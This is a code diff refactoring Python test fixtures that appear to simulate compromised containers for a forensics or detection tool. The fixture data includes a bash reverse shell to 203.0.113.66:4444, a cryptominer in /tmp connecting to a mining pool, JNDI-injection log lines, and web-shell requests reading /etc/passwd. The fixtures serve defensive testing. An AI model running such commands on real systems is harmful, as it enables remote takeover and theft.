@@ -103,55 +103,37 @@ def _log(lines: int, hits: Rows) -> Rows:
     for number in range(lines):
         if number == lines * 2 // 3:
             rows += hits
-        line = f'10.0.4.{number % 200} - - [01/Mar/2026:11:2{number % 10}:00 +0000] "GET /basket?item={number} HTTP/1.1" 200 512 "-" "Mozilla/5.0"'
+        when = f"01/Mar/2026:11:2{number % 10}:00 +0000"
+        line = f'10.0.4.{number % 200} - - [{when}] "GET /basket?item={number} HTTP/1.1" 200 512'
         rows.append({"time": utc(START + 4000 + number * 20), "stream": "stdout", "line": line})
     return rows
 
 
+_SHELL = "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"
+_SOCKET = {"0": "socket:[77123]", "1": "socket:[77123]"}
+_MINER = "/tmp/.x/kdevtmpfsi"
+
+
+def _at(seconds: float) -> str:
+    return utc(START + seconds)
+
+
 def _java() -> dict[str, Any]:
-    shell = "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"
+    bash = {"user": "app", "stdio": _SOCKET}
     rows = [
-        process(
-            100,
-            90,
-            "/opt/java/bin/java",
-            "java",
-            "-jar",
-            "/app/orders.jar",
-            user="app",
-            started=utc(START + 2),
-        ),
-        process(
-            5210,
-            100,
-            "/usr/bin/bash",
-            "bash",
-            "-c",
-            shell,
-            user="app",
-            stdio={"0": "socket:[77123]", "1": "socket:[77123]"},
-            started=utc(START + 5405),
-        ),
-        process(
-            5211,
-            5210,
-            "/usr/bin/bash",
-            "bash",
-            "-i",
-            user="app",
-            stdio={"0": "socket:[77123]", "1": "socket:[77123]"},
-            started=utc(START + 5406),
-        ),
+        process(100, 90, "/opt/java/bin/java", "java", "-jar", "/app/orders.jar", user="app", started=_at(2)),
+        process(5210, 100, "/usr/bin/bash", "bash", "-c", _SHELL, started=_at(5405), **bash),
+        process(5211, 5210, "/usr/bin/bash", "bash", "-i", started=_at(5406), **bash),
         process(
             5260,
             5211,
-            "/tmp/.x/kdevtmpfsi",
-            "/tmp/.x/kdevtmpfsi",
+            _MINER,
+            _MINER,
             "-o",
             "pool.example:3333",
             user="app",
             state="upper",
-            started=utc(START + 5460),
+            started=_at(5460),
         ),
     ]
     sockets = [
@@ -160,40 +142,31 @@ def _java() -> dict[str, Any]:
         connection(77124, "198.51.100.9", 3333, 5260),
         connection(77125, "172.18.0.3", 5432, 100),
     ]
-    files = [
-        file(
-            "/tmp/.x/kdevtmpfsi",
-            executable=True,
-            mode="0755",
-            bytes=2_840_112,
-            sha256="9f" * 32,
-            ctime=utc(START + 5440),
-            mtime="2019-05-04T00:00:00.000000Z",
-        ),
-        file(
-            "/app/logs/orders.log", kind="C", bytes=88_120, ctime=utc(START + 5000), mtime=utc(START + 5000)
-        ),
-        file("/tmp/hsperfdata_app/1", bytes=32768, ctime=utc(START + 5), mtime=utc(START + 5)),
-    ]
-    hits = [
-        {
-            "time": utc(START + 5400 + number),
-            "stream": "stdout",
-            "line": f'{INTRUDER} - - "GET /search?q={JNDI} HTTP/1.1" 200',
-        }
-        for number in range(2)
-    ]
     return {
         "cmd": ["java", "-jar", "/app/orders.jar"],
         "processes.jsonl": rows,
         "sockets.jsonl": [{**row, "process": "java"} for row in sockets],
-        "layer.jsonl": files,
-        "hits": hits,
+        "layer.jsonl": _java_files(),
+        "hits": [_hit(number, f"/search?q={JNDI}") for number in range(2)],
         "changes.jsonl": [
-            {"kind": "A", "path": "/tmp/.x/kdevtmpfsi", "source": "kernel"},
+            {"kind": "A", "path": _MINER, "source": "kernel"},
             {"kind": "D", "path": "/root/.bash_history", "source": "kernel"},
         ],
     }
+
+
+def _java_files() -> Rows:
+    miner = {"executable": True, "mode": "0755", "bytes": 2_840_112, "sha256": "9f" * 32}
+    return [
+        file(_MINER, ctime=_at(5440), mtime="2019-05-04T00:00:00.000000Z", **miner),
+        file("/app/logs/orders.log", kind="C", bytes=88_120, ctime=_at(5000), mtime=_at(5000)),
+        file("/tmp/hsperfdata_app/1", bytes=32768, ctime=_at(5), mtime=_at(5)),
+    ]
+
+
+def _hit(number: int, path: str) -> dict[str, Any]:
+    line = f'{INTRUDER} - - "GET {path} HTTP/1.1" 200 213 "-" "curl/8.5.0"'
+    return {"time": _at(5400 + number), "stream": "stdout", "line": line}
 
 
 def _webshell() -> dict[str, Any]:
@@ -237,14 +210,8 @@ def _webshell() -> dict[str, Any]:
             mtime=utc(START + 5500),
         )
     ]
-    hits = [
-        {
-            "time": utc(START + 5510 + number),
-            "stream": "stdout",
-            "line": f'{INTRUDER} - - "GET /uploads/thumb.php?cmd={what} HTTP/1.1" 200 213 "-" "curl/8.5.0"',
-        }
-        for number, what in enumerate(("id", "uname%20-a", "cat%20/etc/passwd"))
-    ]
+    words = ("id", "uname%20-a", "cat%20/etc/passwd")
+    hits = [_hit(110 + number, f"/uploads/thumb.php?cmd={word}") for number, word in enumerate(words)]
     return {
         "cmd": ["apache2", "-D", "FOREGROUND"],
         "processes.jsonl": rows,
